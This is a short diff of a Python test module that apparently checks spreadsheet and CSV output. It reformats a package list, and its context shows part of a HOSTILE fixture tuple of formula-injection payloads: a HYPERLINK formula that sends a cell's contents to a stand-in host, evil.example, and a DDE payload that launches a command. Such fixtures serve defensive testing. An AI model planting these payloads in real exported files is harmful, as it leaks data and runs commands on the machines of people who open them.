@@ -25,7 +25,17 @@ from tests.fileio.test_address_results import address_input, write_result
 from tests.outputs import EXCEL, RFC4180, output_rows
 
 ROOT = Path(__file__).resolve().parents[2]
-PACKAGES = ("connectors", "fileio", "tasks", "flows", "history", "deployments", "postflows", "sandbox")
+PACKAGES = (
+    "core",
+    "connectors",
+    "fileio",
+    "tasks",
+    "flows",
+    "history",
+    "deployments",
+    "postflows",
+    "sandbox",
+)
 HOSTILE = (
     '=HYPERLINK("http://evil.example/?leak="&A1,"Lindenstrasse")',
     "=cmd|'/C calc'!A0",
